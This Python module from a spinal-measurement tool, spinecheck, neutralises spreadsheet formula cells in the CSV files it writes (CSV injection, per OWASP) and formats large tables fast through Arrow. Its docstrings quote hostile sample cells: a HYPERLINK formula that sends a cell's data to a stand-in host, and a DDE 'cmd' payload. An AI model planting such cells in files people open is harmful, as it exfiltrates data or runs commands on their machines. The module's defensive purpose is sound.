r"""CSV cells a spreadsheet would run as a formula, neutralised (CSV injection).

A researcher opens spinecheck's tables in a spreadsheet. A text cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab, a carriage return or a NUL) is read there as a formula,
and a file named ``=HYPERLINK("http://x/?"&A1,"click").png`` would then run in their
spreadsheet. Every CSV spinecheck writes (the batch table, ``measure --format csv``, the
follow-up series, the instability table, the wide landmark CSV) passes its cells through
:func:`neutralise_cell`, which follows OWASP's rule: such a cell gets a leading single
quote ``'``, which spreadsheets take as "this is text" and do not show. The characters are
those of the OWASP CSV Injection page (``= + - @``, tab, carriage return) and of OWASP
ASVS 5.0 requirement 1.2.10, which adds the NUL character.

Numbers are left alone: a cell that is a plain decimal number (``-12.5``, ``+3``,
``-1.5e-07``) is data, not a formula, and a negative SVA must stay a number. So are cells
made of plus and minus signs only, the SRS–Schwab grades ``+`` and ``++`` of the published
table format (formats.md): with no operand, function or reference there is nothing to run,
and every reader of the table keeps reading the grades it knows. Only text cells change
(file names, paths, notes, errors, warnings, identifiers).

The rule is reversible, so that spinecheck reads back what it wrote (a batch that
resumes its table, the wide CSV, :func:`spinecheck.read_batch_table`): :func:`restore_cell`
removes the quote. A text that itself begins with quotes before such a character gets one
more, so that every text survives the round trip.

Parquet files hold the text as it is: they are typed tables, and no spreadsheet
evaluates their strings as formulas.

References
----------
OWASP Foundation. CSV Injection. https://owasp.org/www-community/attacks/CSV_Injection

OWASP Application Security Verification Standard 5.0, V1.2.10 (CSV and formula injection).

Examples
--------
>>> neutralise_cell("=1+2"), neutralise_cell("-12.5"), neutralise_cell("-x.png")
("'=1+2", '-12.5', "'-x.png")
>>> print(csv_text([["image", "SVA_mm"], ["@evil.png", "-12.5"]]), end="")
image,SVA_mm
'@evil.png,-12.5
"""

from __future__ import annotations

import csv
import functools
import math
import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from itertools import repeat
from operator import is_
from typing import TYPE_CHECKING, NamedTuple

import numpy as np

from .arrow_arrays import bools, floats, numbers, object_references, string_scalar, strings, texts

if TYPE_CHECKING:
    import pyarrow as pa

__all__ = ["FORMULA_STARTS", "neutralise_cell", "restore_cell", "csv_text", "csv_lines", "csv_column_chunks"]

#: The first characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection).
FORMULA_STARTS = frozenset("=+-@\t\r\0")

# what stays as it is although it starts with a sign: a decimal number, or signs only (a grade)
_DATA = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?|[+-]+")


def _starts_formula(text: str) -> bool:
    """Whether *text* after any leading quotes begins like a formula."""
    rest = text.lstrip("'")
    return bool(rest) and rest[0] in FORMULA_STARTS


def neutralise_cell(text: str) -> str:
    r"""*text* as a CSV cell that no spreadsheet runs as a formula.

    Parameters
    ----------
    text : str
        A cell as spinecheck would write it.

    Returns
    -------
    str
        *text* with a leading ``'`` when it begins with ``=``, ``+``, ``-``,
        ``@``, a tab, a carriage return or a NUL and is neither a plain decimal number
        nor signs only (``+``, ``++``: a grade), or
        when it begins with quotes before one of those (so that
        :func:`restore_cell` gives back exactly *text*); otherwise *text*.

    Examples
    --------
    >>> [neutralise_cell(c) for c in ["", "x.png", "+3", "-1.5e-07", "++", "+cmd|' /C calc'!A0", "\tx", "'=a"]]
    ['', 'x.png', '+3', '-1.5e-07', '++', "'+cmd|' /C calc'!A0", "'\tx", "''=a"]
    """
    if _starts_formula(text) and not _DATA.fullmatch(text):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_cell` was given, from the cell it wrote.

    Examples
    --------
    >>> [restore_cell(neutralise_cell(c)) for c in ["=a", "'=a", "''@b", "-12.5", "'quoted", "x"]]
    ['=a', "'=a", "''@b", '-12.5', "'quoted", 'x']
    """
    if text.startswith("'") and _starts_formula(text):
        return text[1:]
    return text


def csv_text(rows: Iterable[Iterable[object]]) -> str:
    r"""The CSV text of *rows*, every cell neutralised (:func:`neutralise_cell`), lines ended by ``\n``.

    Parameters
    ----------
    rows : iterable of iterables
        The cells; each is written as ``str(cell)`` (None as an empty cell).

    Returns
    -------
    str
        Quoted as :mod:`csv` quotes (a cell holding a comma, a quote or a line
        end). A row with a carriage return in a cell is quoted whole: with
        ``\n`` as the line end, :mod:`csv` would leave that cell bare and a
        reader would see two lines.

    Examples
    --------
    >>> csv_text([["a", 1.5], ["x\ry", -2]])
    'a,1.5\n"x\ry","-2"\n'
    """
    return "".join(csv_lines(rows))


def csv_lines(rows: Iterable[Iterable[object]]) -> list[str]:
    r"""The lines of :func:`csv_text`, one a row: ``"".join(csv_lines(rows)) == csv_text(rows)``.

    For a writer that must know where each row's line begins (the batch table).

    Examples
    --------
    >>> csv_lines([["a", "-x"], ["b", "=1"]])
    ["a,'-x\n", "b,'=1\n"]
    """
    lines: list[str] = []
    append = lines.append
    sink = _Sink(append)  # the csv writers write each row's line in one call
    minimal = csv.writer(sink, lineterminator="\n")
    whole = csv.writer(sink, lineterminator="\n", quoting=csv.QUOTE_ALL)
    careful = _CAREFUL
    negative, positive, other = _NEGATIVE.search, _POSITIVE.search, _OTHER.search
    for row in rows:
        # A row of str cells (exactly str: another object's text is its str(), None's is empty) that
        # need nothing is its cells joined by commas: that is decided from the joined line by str
        # methods and three searches, in C. Nothing is needed when no cell holds a comma (the line
        # has one comma fewer than cells), none a quote, a line end or a NUL, none begins as
        # neutralise_cell would change it, and the line is not one empty cell (csv writes "").
        # Callgrind, the 1 000 rows of the bench batch table (122 cells each): 289 K -> 73 K
        # instructions a row (the type check 39 K, the join 11 K, the sign searches 16 K).
        if (type(row) is tuple or type(row) is list) and all(map(is_, map(type, row), repeat(str))):
            line = ",".join(row)
            if (
                line
                and line.count(",") == len(row) - 1
                and '"' not in line
                and "\n" not in line
                and "\r" not in line
                and "\0" not in line  # Python 3.10's csv refuses a NUL inside a cell: its way, not ours
                and not ("-" in line and negative(line))
                and not ("+" in line and positive(line))
                and not (("=" in line or "@" in line or "\t" in line or "'" in line) and other(line))
            ):
                append(line + "\n")
                continue
        cells = ["" if c is None else str(c) for c in row]
        # a cell whose first character cannot start a formula is its own text (neutralise_cell's
        # answer without calling it: some 120 calls a batch row, issue 17, 4)
        cells = [c if c[:1] not in careful else neutralise_cell(c) for c in cells]
        (whole if "\r" in "".join(cells) else minimal).writerow(cells)
    return lines


class _Sink(NamedTuple):
    """What a :func:`csv.writer` writes into: ``write`` is called with each row's whole line."""

    write: Callable[[str], object]


#: Rows formatted at a time by :func:`csv_column_chunks`, about (bounds the memory of the cells' text:
#: some 10 MB of a batch table's text at a time). Twice as many take about the same time and some
#: 25 MB more at the peak; half as many some 10 % more time. A table is cut into equal chunks, as many
#: as this many rows make, rounded: each chunk pays a fixed cost for each column (some 20 ms over the
#: 122 columns of ``measure``), which a last chunk of a few rows paid in full (a 16 MB sub-piece of a
#: wide table, 18 805 rows, was 16 384 rows and 2 421: 0.190 s against 0.170 s in one chunk).
CHUNK_ROWS = 16384
#: Magnitudes whose text Arrow's float cast writes as :func:`repr` does (with ``.0`` after an
#: integer); outside it (and for 0 < |v| < 1e-4) ``repr`` writes an exponent that Arrow does not.
_ARROW_FLOATS = (1e-4, 1e10)
#: First characters of a text that :func:`neutralise_cell` may change.
_CAREFUL = FORMULA_STARTS | {"'"}
# In a line of cells joined by commas, none holding a comma, a quote or a line end: a cell that
# neutralise_cell may change, found by its first character (first in the line, or after a comma:
# the lookbehind, after the character so that the search runs to each such character in C's loop for
# a literal, not through every position). A sign that does not begin a cell _DATA matches whole
# (neither a decimal number nor signs only):
_SIGNED_REST = r"(?<![^,].)(?!(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?(?:,|\Z)|[+-]*(?:,|\Z))"
_NEGATIVE = re.compile("-" + _SIGNED_REST)
_POSITIVE = re.compile(r"\+" + _SIGNED_REST)
# ``=``, ``@``, a tab, a NUL or a quote (a quote only sometimes: such a row is written the long way).
# A carriage return or a NUL is not looked for: a line holding one is written the long way anyway.
_OTHER = re.compile(r"[=@\t\x00'](?<![^,].)")


def csv_column_chunks(
    header: Sequence[str],
    columns: Sequence[np.ndarray],
    *,
    chunk_rows: int | None = None,
    groups: np.ndarray | None = None,
) -> Iterator[str]:
    r"""The text of :func:`csv_text` for a table given by columns, a few thousand rows at a time.

    Parameters
    ----------
    header : sequence of str
        The column names (the first line).
    columns : sequence of ndarray, each shape (N,)
        One per header name: float arrays (a finite value is written as its
        :func:`repr`, ``-0.0`` as ``0.0``; NaN and infinities as empty cells),
        or object arrays (None is an empty cell, anything else ``str(cell)``).
    chunk_rows : int, optional
        Rows per chunk of text (default: about :data:`CHUNK_ROWS`, the table cut
        into equal chunks, from 0.67 to 1.5 times as many rows each).
    groups : ndarray, shape (N,), optional
        Each row's group, to be joined apart from the other groups' rows: rows
        that leave the same columns empty, such as a table's lateral and AP
        studies. The text is the same with or without; a float column empty
        throughout a group costs that group's rows nothing.

    Yields
    ------
    str
        The header line, then the rows: joined, exactly the text :func:`csv_text`
        gives for ``[header, *rows]`` with the rows holding what
        :func:`csv_text` would be given (floats as Python floats, None for an
        empty cell).

    Notes
    -----
    Work is done a column at a time, in C++ through Arrow's compute functions:
    finite floats are formatted by Arrow's cast where its text equals
    :func:`repr` (checked once per process on sample values, else :func:`repr`
    is used), other floats by :func:`repr`; each distinct text of an object
    column is neutralised and quoted once, and the column taken from those
    texts by index; the cells of a row are joined with
    ``binary_join_element_wise``. A row with a carriage return in a cell is
    written by :mod:`csv` with every cell quoted, as :func:`csv_text` does.
    No Arrow array is made from Python objects (``pyarrow.array`` imports
    pandas, some 0.5 s): every one is built from its buffers.

    Each chunk is made when it is asked for, in the calling thread. Chunks
    were once made two at a time in two threads (most of a chunk's time is in
    Arrow's kernels, which let go of the interpreter lock); as the Python part
    of a chunk grew relative to Arrow's, the threads stopped paying: for a
    16 MB sub-piece of a wide table (18 805 rows, 122 columns), 0.184 s of
    wall time against 0.190 s in one thread with both cores idle, 0.253 s
    against 0.186 s beside another busy process (``measure``'s pieces fill
    the cores), and some 60 % more CPU either way (issue 17, 2).

    Examples
    --------
    >>> cols = [np.array(["a.png", "=b, c.png"], dtype=object), np.array([-0.0, np.nan])]
    >>> print("".join(csv_column_chunks(["image", "SVA_mm"], cols)), end="")
    image,SVA_mm
    a.png,0.0
    "'=b, c.png",
    """
    yield csv_text([header])
    n = len(columns[0]) if columns else 0
    if not chunk_rows:
        chunks = max(1, int(n / CHUNK_ROWS + 0.5))  # as many as CHUNK_ROWS rows make, rounded
        chunk_rows = max(1, -(-n // chunks))  # so many equal chunks
    for start in range(0, n, chunk_rows):
        if len(header) == 1:  # csv writes a lone empty cell as "": leave that rule to csv
            yield csv_text([[_raw_cell(columns[0], i)] for i in range(start, min(n, start + chunk_rows))])
        else:
            # Arrow's allocator keeps the chunk's freed pages for the next chunk (some 25 MB at the peak
            # of a large table): giving them back after each chunk made the kernel fault in and zero them
            # again for the next, some 5 % of the CPU of a large measure (see wide_csv._read_piece)
            stop = start + chunk_rows
            yield _chunk_text(
                [c[start:stop] for c in columns], None if groups is None else groups[start:stop]
            )


class _Coded(NamedTuple):
    """Cells of one or more adjacent columns as each row's index into the distinct combinations of their texts.

    A combination's text is its columns' texts joined by commas; the part is
    written from those texts with one ``take``.
    """

    codes: np.ndarray  # (m,) int: each row's combination
    columns: tuple[tuple[list[str], np.ndarray], ...]  # each column's texts, and its text in each combination

    @property
    def size(self) -> int:
        """How many combinations."""
        return len(self.columns[0][1])


def _coded(codes: np.ndarray, texts: list[str]) -> _Coded:
    """One column's cells as each row's index into its distinct *texts*."""
    return _Coded(codes, ((texts, np.arange(len(texts))),))


def _chunk_text(columns: Sequence[np.ndarray], groups: np.ndarray | None = None) -> str:
    r"""The lines of the rows of *columns* (each shape (m,), m >= 1), each ended by ``\n``.

    *groups*: each row's group, or None. The rows of each group are joined apart, their lines
    then put back in the rows' order: a float column empty throughout a group is one empty text
    there, joined with its neighbours, where across the groups it would be a column of cells.
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    m = len(columns[0])
    cells: list[np.ndarray | _Coded] = []  # a float column as it is; an object column's distinct texts
    whole = np.zeros(m, dtype=bool)  # rows with a carriage return: csv quotes them whole
    for col in columns:
        if col.dtype.kind == "f":
            cells.append(col)
        else:
            coded, cr = _object_cells(col)
            cells.append(coded)
            if cr is not None:
                whole |= cr
    members = _members(groups) if groups is not None else []
    if len(members) < 2:
        lines = _lines(cells, columns, whole, None)
        if isinstance(lines, str):
            return lines
    else:
        parts = [_lines(cells, columns, whole, rows) for rows in members]  # arrays: rows is given
        # where each row's line is among the groups' lines, one group's after another's
        at = np.empty(m, dtype=np.int64)
        at[np.concatenate(members)] = np.arange(m)
        lines = pc.take(pa.concat_arrays(parts), numbers(at, pa.int64()))
    offsets = np.frombuffer(lines.buffers()[1], dtype=np.int64, count=m + 1, offset=8 * lines.offset)
    return str(memoryview(lines.buffers()[2])[offsets[0] : offsets[-1]], "utf-8")


def _members(groups: np.ndarray) -> list[np.ndarray]:
    """The rows of each group of *groups* (each row's group), in order; none where all rows are one group."""
    values, inverse = np.unique(groups, return_inverse=True)
    return [np.flatnonzero(inverse == k) for k in range(len(values))] if len(values) > 1 else []


def _lines(
    cells: Sequence[np.ndarray | _Coded],
    columns: Sequence[np.ndarray],
    whole: np.ndarray,
    rows: np.ndarray | None,
) -> pa.Array | str:
    r"""The lines of *rows* (all rows for None), each ended by ``\n``, as an Arrow array.

    For all rows (*rows* None), where every row is one line, their text instead. *cells*: each
    column's floats, or its object cells coded (:func:`_object_cells`); *columns* as given (the
    rows in *whole* are written from them by :mod:`csv`).
    """
    import pyarrow.compute as pc

    if rows is None:
        m, taken = len(whole), cells
    else:
        m, whole = len(rows), whole[rows]
        taken = [_subset(c, rows) if isinstance(c, _Coded) else c[rows] for c in cells]
    parts: list[pa.Array | _Coded] = [c if isinstance(c, _Coded) else _float_cells(c) for c in taken]
    parts = _merged(parts, m)
    last = parts[-1]
    ended = type(last) is _Coded  # the line end rides on the last column's texts (one copy of the lines less)
    if type(last) is _Coded:
        texts, index = last.columns[-1]
        parts[-1] = _Coded(last.codes, (*last.columns[:-1], ([t + "\n" for t in texts], index)))
    if len(parts) == 1 and type(parts[0]) is _Coded and parts[0].size == 1:  # every row the same line
        if rows is None and not whole.any():
            return _one_text(parts[0]) * m
        arrays: list[pa.Array | pa.Scalar] = [strings([_one_text(parts[0])] * m)]
    else:
        arrays = [_cells(p, m) if type(p) is _Coded else p for p in parts]
    lines = pc.binary_join_element_wise(
        *arrays, string_scalar(","), null_handling="replace", null_replacement=""
    )
    if whole.any():
        at = np.flatnonzero(whole)
        quoted = [
            csv_text([[_raw_cell(col, k) for col in columns]])
            for k in (at if rows is None else rows[at]).tolist()
        ]
        lines = pc.replace_with_mask(
            lines, bools(whole), strings(quoted if ended else [q.removesuffix("\n") for q in quoted])
        )
    if not ended:
        lines = pc.binary_join_element_wise(lines, string_scalar(""), string_scalar("\n"))
    return lines


def _subset(coded: _Coded, rows: np.ndarray) -> _Coded:
    """The cells of a one-column *coded* in *rows*; a column of a few texts coded by those the rows use.

    A column of one text in the rows is then a constant, which :func:`_merged` joins with its
    neighbours at no cost per row; a column of many texts (the image names) keeps them all.
    """
    codes = coded.codes[rows]
    texts, _ = coded.columns[0]
    if len(texts) > _FEW_TEXTS:
        return _Coded(codes, coded.columns)
    used = np.bincount(codes, minlength=len(texts)) > 0
    if used.all():
        return _Coded(codes, coded.columns)
    renumber = np.cumsum(used) - 1
    return _coded(
        renumber[codes].astype(np.int32), [t for t, u in zip(texts, used.tolist(), strict=True) if u]
    )


#: Texts of an object column that :func:`_subset` tells which a group uses (a verdict, a reason, a view).
_FEW_TEXTS = 64


def _one_text(coded: _Coded) -> str:
    """The text of the first combination of *coded*."""
    return ",".join(texts[index[0]] for texts, index in coded.columns)


def _cells(coded: _Coded, m: int) -> pa.Array | pa.Scalar:
    """The *m* cells of *coded* for the join: taken from its combinations' texts, or its one text."""
    import pyarrow as pa
    import pyarrow.compute as pc

    if coded.size == 1:
        return string_scalar(_one_text(coded))
    # each combination's text: its columns' texts, each taken by index where it is not in order, joined
    texts = [
        strings(t)
        if len(t) == len(index) and (index == np.arange(len(t))).all()
        else pc.take(strings(t), numbers(index.astype(np.int32), pa.int32()))
        for t, index in coded.columns
    ]
    combined = texts[0] if len(texts) == 1 else pc.binary_join_element_wise(*texts, string_scalar(","))
    if coded.size == m and (coded.codes[1:] > coded.codes[:-1]).all():  # every row its own text, in order
        return combined
    return pc.take(combined, numbers(coded.codes.astype(np.int32, copy=False), pa.int32()))


#: Adjacent coded columns are written as one while their rows hold at most one distinct combination
#: in this many (:func:`_merged`).
_MERGE_RATIO = 8
#: Two coded parts with at most this many combinations are joined without finding which occur.
_ALL_PAIRS = 256


def _merged(parts: list[pa.Array | _Coded], m: int) -> list[pa.Array | _Coded]:
    """*parts* with each run of adjacent coded columns written as one where few combinations result.

    The join of a row's cells costs about the same for every part, so adjacent
    columns of a few texts each (verdicts, reasons, levels, constants) are
    joined once per distinct combination of their texts instead of once per row.
    """
    limit = max(m // _MERGE_RATIO, 1)
    out: list[pa.Array | _Coded] = []
    for part in parts:
        if out and type(part) is _Coded and type(out[-1]) is _Coded:
            joined = _joined(out[-1], part, limit)
            if joined is not None:
                out[-1] = joined
                continue
        out.append(part)
    return out


def _joined(a: _Coded, b: _Coded, limit: int) -> _Coded | None:
    """*a* and *b* as one coded part (``a,b``), or None when it would hold over *limit* combinations."""
    import pyarrow as pa
    import pyarrow.compute as pc

    da, db = a.size, b.size
    if da > limit or db > limit:
        return None
    key = a.codes.astype(np.int64) * db + b.codes
    if da * db <= _ALL_PAIRS or da == 1 or db == 1:  # every combination, without finding which occur
        codes, combos = key, np.arange(da * db)
    else:
        encoded = pc.dictionary_encode(numbers(key, pa.int64()))
        if len(encoded.dictionary) > limit:
            return None
        combos = np.frombuffer(encoded.dictionary.buffers()[1], dtype=np.int64, count=len(encoded.dictionary))
        codes = np.frombuffer(encoded.indices.buffers()[1], dtype=np.int32, count=len(key))
    first, second = combos // db, combos % db
    return _Coded(
        codes,
        tuple((t, index[first]) for t, index in a.columns)
        + tuple((t, index[second]) for t, index in b.columns),
    )


def _raw_cell(col: np.ndarray, i: int) -> object:
    """Cell *i* of *col* as :func:`csv_text` is given it (floats as Python floats, None when empty)."""
    v = col[i]
    if col.dtype.kind == "f":
        return float(v) + 0.0 if math.isfinite(v) else None
    return v


def _float_cells(values: np.ndarray) -> pa.Array | _Coded:
    """The cells of a float column: :func:`repr` of each finite value (``-0.0`` as ``0.0``), else empty.

    An Arrow array (null for an empty cell), or, for a column of few values (a score, an age, a
    target: :func:`_few_values`) or none, the :func:`repr` of each distinct value and each row's index.
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    v = np.asarray(values, dtype=float) + 0.0  # a copy; + 0.0: never a "-0.0" cell
    finite = np.isfinite(v)
    if not finite.any():
        return _coded(np.zeros(len(v), dtype=np.int32), [""])
    if _few_values(v[:_SAMPLE][finite[:_SAMPLE]]):
        encoded = pc.dictionary_encode(floats(v, finite))  # each distinct value once, in the order they come
        d = len(encoded.dictionary)
        distinct = np.frombuffer(encoded.dictionary.buffers()[1], dtype=np.float64, count=d)
        codes = np.frombuffer(encoded.indices.buffers()[1], dtype=np.int32, count=len(v)).copy()
        codes[~finite] = d  # an empty cell: the last text
        return _coded(codes, [*map(repr, distinct.tolist()), ""])
    if not _arrow_floats_like_repr():
        return strings([repr(x) if ok else "" for x, ok in zip(v.tolist(), finite.tolist(), strict=True)])
    size = np.abs(v)
    easy = finite & (((size >= _ARROW_FLOATS[0]) & (size < _ARROW_FLOATS[1])) | (v == 0))
    text = pc.cast(floats(v, easy), pa.large_string())
    whole = easy & (np.floor(v) == v)
    if whole.any():  # Arrow writes 12.0 as "12": add the ".0" to those cells only
        at = bools(whole)
        text = pc.replace_with_mask(
            text, at, pc.binary_join_element_wise(pc.filter(text, at), string_scalar(".0"), string_scalar(""))
        )
    hard = finite & ~easy
    if hard.any():
        text = pc.replace_with_mask(text, bools(hard), strings(list(map(repr, v[hard].tolist()))))
    return text


#: The first cells of a float column that :func:`_few_values` judges it by.
_SAMPLE = 1024


def _few_values(sample: np.ndarray) -> bool:
    """Whether a float column is likely to hold few distinct values, from the finite values of its first cells.

    Few: at most one in four of them distinct (a score, an age, a target in 0.1 steps). Either answer
    writes the same text; this one only chooses the faster way.
    """
    return len(sample) >= 64 and 4 * len(np.unique(sample)) <= len(sample)


@functools.cache
def _arrow_floats_like_repr() -> bool:
    """Whether this Arrow's float-to-text cast writes what :func:`repr` writes, in :data:`_ARROW_FLOATS`."""
    import pyarrow as pa
    import pyarrow.compute as pc

    rng = np.random.default_rng(0)
    sample = np.concatenate(
        (
            10.0 ** rng.uniform(-4, 10, 2000) * rng.choice([-1.0, 1.0], 2000),
            np.round(rng.normal(0, 100, 1000), 2),
            [1e-4, 0.1, 0.3, 1 / 3, 2 / 3, 0.0, 1.0, -7.0, 123456789.0, 9999999999.0, 9999999999.5, 1e-3],
        )
    )
    sample = sample[
        (np.abs(sample) >= _ARROW_FLOATS[0]) & (np.abs(sample) < _ARROW_FLOATS[1]) | (sample == 0)
    ]
    text = texts(pc.cast(floats(sample, np.ones(len(sample), dtype=bool)), pa.large_string()))
    whole = np.floor(sample) == sample
    return all(t + ".0" * w == repr(x) for t, w, x in zip(text, whole.tolist(), sample.tolist(), strict=True))


def _object_cells(values: np.ndarray) -> tuple[_Coded, np.ndarray | None]:
    """The cells of an object column as its distinct texts, and the rows with a carriage return.

    The rows are None when no cell holds one.
    The text of each distinct object is made once (:func:`_identities`; a column
    repeats a few objects, and the texts of most others need no quote and no
    neutralising, which one search of their joined text tells).
    """
    codes, distinct = _identities(values)
    shown = _cell_texts(distinct.tolist())
    cr_codes = [k for k, t in enumerate(shown) if "\r" in t]
    return _coded(codes, shown), (np.isin(codes, cr_codes) if cr_codes else None)


def _identities(values: np.ndarray) -> tuple[np.ndarray, np.ndarray]:
    """Each cell's index among the distinct objects of *values*, and those objects in the order they came.

    Cells are told apart by identity, not by value: a cell that is the same object
    as another has the same text, and objects that are equal but distinct are
    merely written once each. The identities are the array's references read as
    integers (no Python call per cell), encoded by Arrow's hash table.
    """
    import pyarrow as pa
    import pyarrow.compute as pc

    refs = object_references(values)
    if (refs == refs[0]).all():  # one object in every cell (a constant, or None throughout): no hashing
        return np.zeros(len(values), dtype=np.int32), values[:1]
    encoded = pc.dictionary_encode(numbers(refs, pa.uint64() if refs.itemsize == 8 else pa.uint32()))
    codes = np.frombuffer(encoded.indices.buffers()[1], dtype=np.int32, count=len(values))
    some = np.empty(len(encoded.dictionary), dtype=np.intp)
    some[codes] = np.arange(len(values))  # a row of each distinct object (any one: they are the same)
    return codes, values[some]


def _cell_texts(values: list[object]) -> list[str]:
    """:func:`_cell_text` of each of *values*, with one search for the cells that need it."""
    shown = [v if type(v) is str else "" if v is None else str(v) for v in values]
    joined = "\x01" + "\x01".join(shown)  # a cell's first character follows a \x01
    if any(c in joined for c in ',"\n\r') or any("\x01" + c in joined for c in _CAREFUL):
        return [_cell_text(v) for v in values]
    return shown


def _cell_text(v: object) -> str:
    """One cell as the minimal csv writer writes it (a carriage return is left for the whole-row writer)."""
    text = v if type(v) is str else "" if v is None else str(v)
    if text[:1] in _CAREFUL:
        text = neutralise_cell(text)
    if ("," in text or '"' in text or "\n" in text) and "\r" not in text:
        return '"' + text.replace('"', '""') + '"'
    return text
